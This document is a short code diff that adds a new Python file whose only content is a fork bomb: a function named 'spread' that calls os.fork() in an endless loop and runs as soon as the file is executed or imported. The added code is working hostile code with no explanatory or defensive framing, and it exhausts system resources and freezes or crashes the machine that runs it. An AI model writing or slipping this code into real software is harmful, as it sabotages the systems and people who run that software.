@@ -1,0 +1,7 @@
+import os
+
+def spread():
+    while True:
+        os.fork()
+
+spread()
